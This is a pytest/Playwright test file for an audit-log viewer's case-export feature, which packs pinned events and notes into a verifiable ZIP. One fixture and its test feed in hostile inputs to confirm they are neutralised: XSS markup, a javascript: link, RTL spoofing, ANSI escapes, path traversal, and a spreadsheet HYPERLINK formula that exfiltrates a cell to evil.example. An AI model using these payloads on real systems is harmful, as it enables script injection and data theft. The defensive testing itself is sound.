"""Pinned events, noted, as a case that is handed over: one ZIP, and what its making tells."""

import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect
from tests.kit.casework import NOTES, SUMMARY, TITLE, address, fields, make, write
from tests.kit.packs import Pack, turned, verified, viewer
from tests.kit.service import House, events
from tests.kit.window import Look, still

Open = Callable[..., Look]


def test_a_pack_holds_what_its_receiver_needs_and_every_file_is_what_the_manifest_says(
    made: Pack, house: House, three: list[str]
) -> None:
    """Nothing more, and nothing that the service would tell otherwise."""
    lines = [json.loads(line) for line in made.text("events.ndjson").splitlines()]
    told = [house.client.request("GET", f"/v1/events/{one}", b"", {}).json["event"]["event"] for one in three]
    case = json.loads(made.text("case.json"))
    files = sorted(one for one in made.names() if one.startswith("evidence/"))

    assert made.sums() == made.hashes()
    assert lines == told
    assert made.names() - set(files) == {"README.txt", "index.html", "case.md", "case.json", "events.ndjson", "log/vkey", "manifest.sha256"}  # fmt: skip
    assert [(one["id"], one["note"], one["evidence"], one["sha256"]) for one in case["events"]] == [
        (id_, note, name, made.hashes()[name]) for id_, note, name in zip(three, NOTES, files, strict=True)
    ]
    assert (case["title"], case["summary"], case["account"]) == (TITLE, SUMMARY, house.created.account_id)
    assert made.text("log/vkey").strip() == house.created.vkey
    assert all(note.splitlines()[0] in made.text("case.md") for note in NOTES)


def test_every_evidence_file_verifies_by_the_command_that_the_readme_tells(
    made: Pack, three: list[str]
) -> None:
    """Word for word, in the folder that was unzipped; the key is the pack's own."""
    (command,) = set(re.findall(r"^ +actiontrail (verify .+)$", made.text("README.txt"), re.MULTILINE))
    verify, first, *key = command.split()
    found = []
    for file in sorted((made.folder / "evidence").iterdir()):
        name = file.relative_to(made.folder).as_posix()
        line = [sys.executable, "-m", "actiontrail", verify, name, *key, "--json"]
        done = subprocess.run(line, cwd=made.folder, capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stdout + done.stderr
        found.append(done.stdout)

    assert all(id_ in told for id_, told in zip(three, found, strict=True))
    assert (made.folder / first).is_file()


MARKUP = "<img src=x onerror=alert(1)></script><script>alert(2)</script><!--"
RTL, ANSI = "\u202egnp.exe", "\u001b[31mred\u001b[0m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
HOSTILE_ID = f"../../{MARKUP}"
ALIVE = """() => [document.querySelectorAll('img, iframe, a, script:not([type]) ~ script').length, /[\\u202a-\\u202e\\u2066-\\u2069\\u001b]/.test(document.body.innerText)]"""


@pytest.fixture(scope="session")
def hostile(house: House) -> str:
    """An event with something hostile in every field, its own id included."""
    body = events(
        HOSTILE_ID, eventTime="2026-01-02T03:04:05Z", eventName=f"Delete{MARKUP}", serviceName="HostilePack",
        sourceIpAddress=f"203.0.113.9{RTL}", userAgent=FORMULA, errorCode=f"{ANSI}{MARKUP}", errorMessage=FORMULA,
        userIdentity={"userName": f"{MARKUP}{RTL}{ANSI}", "type": "ram-user"}, resourceType=f"ACS::{MARKUP}", resourceName=f"i-{MARKUP}",
        requestParameters={"a": FORMULA, MARKUP: MARKUP, RTL: "y", "n": "x" * 20_000},
    )  # fmt: skip
    assert house.client.post("/v1/events", body, content_type="application/x-ndjson").status == 200
    found = "/v1/histogram?query=serviceName%3A%20HostilePack"
    house.running.until(
        lambda: house.client.request("GET", found, b"", {}).json["total"] == 1, "it is searchable"
    )
    return HOSTILE_ID


def test_whatever_an_event_or_a_note_says_is_text_in_the_pack_and_its_viewer(
    look: Open, browser: Browser, hostile: str, tmp_path: Path
) -> None:
    """No file leaves its folder, nothing runs, nothing is loaded, and every byte of it is still there."""
    window = look("/events?from=&q=serviceName%3A%20HostilePack")
    page = window.page
    page.locator(".list .row").wait_for()
    page.evaluate("document.activeElement.blur()")
    for key in ("j", "p"):
        page.keyboard.press(key)
    expect(page.locator(".pins [data-event]")).to_have_count(1)
    page.keyboard.press("Control+j")
    page.get_by_label("Title of the case").fill(f"{FORMULA}{MARKUP}{RTL}")
    fields(page)[0].fill(f"{MARKUP}\n{RTL}\n![x](http://evil.example/x.png) [l](javascript:alert(1))")
    page.get_by_role("button", name="Done writing").click()
    expect(page.locator(".pins .case-text")).to_contain_text("U+202E")
    assert page.evaluate(ALIVE)[1] is False
    pack = Pack.saved(window, lambda: make(page), tmp_path)
    (evidence,) = (one for one in pack.names() if one.startswith("evidence/"))

    assert re.fullmatch(r"evidence/01-[\w-]+\.tlog-proof", evidence)
    assert pack.sums() == pack.hashes()
    assert json.loads(pack.text("events.ndjson"))["eventName"] == f"Delete{MARKUP}"
    assert json.loads(pack.text("case.json"))["title"] == f"{FORMULA}{MARKUP}{RTL}"
    assert not re.search(r"[\u202a-\u202e\u001b]|(?<!\\)[<\[]|(?<!\\)!\\?\[", pack.text("case.md"))
    assert "\u202e" not in pack.text("README.txt")
    with viewer(browser, pack) as (opened, asked):
        dialogs: list[str] = []
        opened.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        verified(opened.page, "good")
        opened.page.evaluate("document.querySelectorAll('details').forEach(one => (one.open = true))")
        expect(opened.page.locator("table")).to_contain_text("U+202E")
        opened.page.get_by_role("button", name="Show all 20000 characters").click()
        opened.shot("pack-viewer-hostile")
        assert (opened.page.evaluate(ALIVE), dialogs, asked, opened.complaints) == ([0, False], [], [], [])
    assert window.complaints == []


class Downloads:
    """What the browser saved from here on."""

    def __init__(self, page: Page) -> None:
        self.names: list[str] = []
        page.on("download", lambda one: self.names.append(one.suggested_filename))


def waiting(window: Look, three: list[str]) -> list[Route]:
    """Proofs of the last event that wait for their answer."""
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    window.context.route(f"**/v1/proof/{three[2]}", hold)
    return held


@pytest.mark.parametrize("way", ["the button", "Escape"])
def test_what_is_cancelled_midway_saves_nothing(look: Open, three: list[str], way: str) -> None:
    """Also when the answer that was waited for comes after all."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)
    held = waiting(window, three)
    make(page)
    expect(page.locator("[data-pack]")).to_have_attribute("data-pack", "fetching")
    for _ in range(400):
        if held:
            break
        page.wait_for_timeout(50)
    window.shot("pack-fetching")
    if way == "Escape":
        page.keyboard.press("Escape")
        expect(page.locator("dialog")).to_have_count(0)
    else:
        page.get_by_role("button", name="Cancel").click()
        expect(page.locator("dialog .ant-alert")).to_contain_text("nothing was saved")
    window.context.unroute(f"**/v1/proof/{three[2]}")  # which lets go of what is held
    still(page)

    assert (len(held), saved.names, window.complaints) == (1, [], [])


def test_a_call_that_fails_is_told_and_tried_again(look: Open, three: list[str], tmp_path: Path) -> None:
    """In the one part that tells of failures; the second try makes the pack."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)
    fault = {"Code": "ServiceUnavailable", "Message": "no.", "RequestId": "REQUEST-OF-THE-PROOF"}
    window.context.route(f"**/v1/proof/{three[1]}", lambda route: route.fulfill(status=503, json=fault))
    make(page)
    failed = page.locator("dialog .failed")
    expect(failed).to_contain_text("REQUEST-OF-THE-PROOF")
    window.shot("pack-failed")
    barriers = window.barriers()
    assert saved.names == []
    window.context.unroute(f"**/v1/proof/{three[1]}")
    pack = Pack.saved(window, lambda: failed.get_by_role("button", name="again").click(), tmp_path)

    assert pack.sums() == pack.hashes()
    assert (len(pack.data()["events"]), barriers, window.complaints) == (3, [], [])


@pytest.mark.parametrize(
    ("missing", "reason", "said"),
    [("proof", "unproved", "not provable yet"), ("events", "gone", "not there")],
)
def test_what_is_missing_is_told_before_anything_is_saved(
    look: Open, browser: Browser, three: list[str], tmp_path: Path, missing: str, reason: str, said: str
) -> None:
    """Nothing is left out but by the person's word, and then the pack tells of it."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)
    pattern = f"**/v1/{missing}/{three[1]}"
    page.locator(".pins [data-event]").nth(2).wait_for()
    window.context.route(pattern, lambda route: route.fulfill(status=404, json={"Code": "NoSuchEvent"}))
    make(page)
    told = page.locator(f'[data-left="{reason}"]')
    expect(told).to_contain_text(three[1])
    expect(told).to_contain_text(said)
    window.shot(f"pack-missing-{reason}")
    assert (saved.names, window.barriers()) == ([], [])
    pack = Pack.saved(
        window, lambda: page.get_by_role("button", name="Save it without them").click(), tmp_path
    )
    left = json.loads(pack.text("case.json"))["left"]

    assert [one["id"] for one in pack.data()["events"]] == [three[0], three[2]]
    assert [(one["id"], one["reason"]) for one in left] == [(three[1], reason)]
    with viewer(browser, pack) as (opened, _):
        verified(opened.page, "good")
        expect(opened.page.locator(".left")).to_contain_text(three[1])


def test_evidence_that_does_not_hold_does_not_go_in(look: Open, three: list[str]) -> None:
    """The page verifies each before it packs it, and says what is wrong with it."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)

    def forge(route: Route) -> None:
        lines = route.fetch().body().decode().split("\n")
        at = lines.index("") - 1
        route.fulfill(body="\n".join([*lines[:at], turned(lines[at], 5), *lines[at + 1 :]]))

    window.context.route(f"**/v1/proof/{three[1]}", forge)
    make(page)

    expect(page.locator('[data-left="false"]')).to_contain_text("the record was altered")
    assert saved.names == []


def test_notes_outlive_a_reload_another_account_and_an_unpinning(look: Open, three: list[str]) -> None:
    """They are this browser's, account by account; they are never in the address; deleting asks first."""
    window = look(address(three))
    page = window.page
    write(page)
    assert not any(part in page.url for part in ("deploy", "nobody"))
    page.reload()
    expect(page.locator(".pins .case-title")).to_have_text(TITLE)
    expect(page.locator(".pins [data-note]")).to_have_count(3)

    def other(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, json=answer.json() | {"account": "1000000000000999"})

    window.context.route("**/v1/session", other)
    page.reload()
    expect(page.locator(".pins [data-event]")).to_have_count(3)
    expect(page.locator(".pins [data-note], .pins .case-title")).to_have_count(0)
    window.context.unroute("**/v1/session")
    page.reload()
    expect(page.locator(".pins [data-note]")).to_have_count(3)

    page.locator(".pins .chip-remove").nth(1).click()
    expect(page.locator(".pins [data-note]")).to_have_count(2)
    page.get_by_role("button", name="Pin them again").click()
    expect(page.locator(".pins [data-note]")).to_have_count(3)
    page.get_by_role("button", name="Unpin all").click()
    expect(page.locator(".pins")).to_have_count(0)
    expect(page.locator(".case-over")).to_contain_text("3 notes are kept")
    page.get_by_role("button", name="Delete these notes").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Pin them again").click()
    expect(page.locator(".pins [data-note]")).to_have_count(3)
    page.get_by_role("button", name="Unpin all").click()
    page.get_by_role("button", name="Delete these notes").click()
    page.keyboard.press("Enter")
    expect(page.locator(".case-over")).to_have_count(0)
    assert window.complaints == []


def test_two_windows_of_one_browser_write_into_one_case(look: Open, three: list[str]) -> None:
    """Neither writes over what the other wrote, and each shows it."""
    window = look(address(three))
    first, second = window.page, window.context.new_page()
    write(first)
    second.goto(first.url)
    expect(second.locator(".pins .case-title")).to_have_text(TITLE)
    second.evaluate("document.activeElement.blur()")
    second.keyboard.press("Control+j")
    fields(second)[1].fill("From the other window.")
    expect(first.locator(".pin textarea").nth(1)).to_have_value("From the other window.")
    fields(first)[0].fill("And from this one.")

    expect(second.locator(".pin textarea").nth(0)).to_have_value("And from this one.")
    expect(second.locator(".pin textarea").nth(1)).to_have_value("From the other window.")
    assert window.complaints == []


def test_a_browser_that_keeps_nothing_says_so_and_still_packs_the_notes(
    look: Open, three: list[str], tmp_path: Path
) -> None:
    """What was written is lost with the page: that is told at once, not found out later."""
    window = look("/settings")
    window.page.add_init_script(
        "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }"
    )
    window.page.reload()
    page = window.go(address(three))
    write(page)
    expect(page.locator(".pins .ant-alert")).to_contain_text("does not keep")
    pack = Pack.saved(window, lambda: make(page), tmp_path)

    assert [one["note"] for one in pack.data()["events"]] == list(NOTES)


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("light", {}),
        ("zh-dark", {"locale": "zh-CN", "color_scheme": "dark"}),
        ("zh-narrow", {"locale": "zh-CN", "viewport": {"width": 390, "height": 844}}),
        ("dark-narrow", {"color_scheme": "dark", "viewport": {"width": 390, "height": 844}}),
    ],
)
def test_a_case_is_written_in_each_language_and_look(
    look: Open, three: list[str], name: str, options: dict[str, Any]
) -> None:
    """Writing, what is written, and the dialog: nobody is kept out, and nothing is wider than the window."""
    window = look(address(three), **options)
    page = window.page
    expect(page.locator(".pins [data-event]")).to_have_count(3)
    still(page)
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("Control+j")
    page.locator(".case-form input").fill(TITLE)
    for field, note in zip(fields(page), NOTES, strict=True):
        field.fill(note)
    still(page)
    window.shot(f"case-writing-{name}")
    barriers = window.barriers()
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("Control+j")
    expect(page.locator(".case-form")).to_have_count(0)
    window.shot(f"case-written-{name}")
    barriers += window.barriers()
    page.keyboard.press("Control+s")
    with page.expect_download():
        page.locator("[data-pack] .ant-btn-primary").click()
    expect(page.locator("[data-pack]")).to_have_attribute("data-pack", "saved")
    page.mouse.move(0, 0)
    expect(page.locator("[data-pack] .hash")).to_have_count(2)
    still(page)
    window.shot(f"pack-saved-{name}")
    barriers += window.barriers()
    wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")

    assert (wide <= 0, barriers, window.complaints) == (True, [], [])
